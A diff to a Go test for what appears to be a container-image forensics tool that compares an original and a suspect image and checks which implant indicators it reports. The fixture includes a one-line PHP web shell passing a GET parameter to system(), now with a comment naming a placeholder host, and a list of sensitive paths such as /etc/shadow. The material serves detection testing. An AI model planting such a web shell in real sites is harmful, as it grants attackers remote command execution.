@@ -54,7 +54,7 @@ func TestReportPerfPair(t *testing.T) {
 	app := imagebuild.Layer{CreatedBy: "COPY app /srv/app # buildkit", Created: time.Date(2024, 3, 1, 1, 0, 0, 0, time.UTC), Files: []imagebuild.File{
 		imagebuild.Dir("srv"), imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/run.py", "print('perf')\n"),
 		// Flagged, but the original holds it too: no implant of the suspect's.
-		imagebuild.Reg("srv/app/admin.php", "<?php system($_GET['c']); ?>\n")}}
+		imagebuild.Reg("srv/app/admin.php", "<?php // mirror http://192.0.2.10/tools\nsystem($_GET['c']); ?>\n")}}
 	original := saveImage(t, imagebuild.Image{Tags: []string{"example.test/perf:1"}, Layers: []imagebuild.Layer{perfBase("perf"), app}})
 	suspect := saveImage(t, imagebuild.Image{Tags: []string{"example.test/perf:2"}, Layers: []imagebuild.Layer{perfBase("perf"), app, perfImplant()}})
 	var others []string
@@ -134,6 +134,12 @@ func TestReportPerfPair(t *testing.T) {
 		t.Errorf("the RUN chmod whose layer wrote files is not marked: %+v", sm.Contradictions)
 	}
 
+	// What a flagged file the original holds too contains is no indicator of the suspect's.
+	for _, ind := range r.Indicators {
+		if strings.Contains(ind.Value, "192.0.2.10") || strings.HasSuffix(ind.Context, " /srv/app/admin.php") {
+			t.Errorf("indicator %s:%s comes from a file the original holds too (%s)", ind.Kind, ind.Value, ind.Context)
+		}
+	}
 	generic := map[string]bool{"/etc/passwd": true, "/etc/shadow": true, "/etc/ssh/sshd_config": true, "/usr/bin/ps": true}
 	for _, ind := range r.Indicators {
 		if ind.Kind == "path" && generic[ind.Value] {
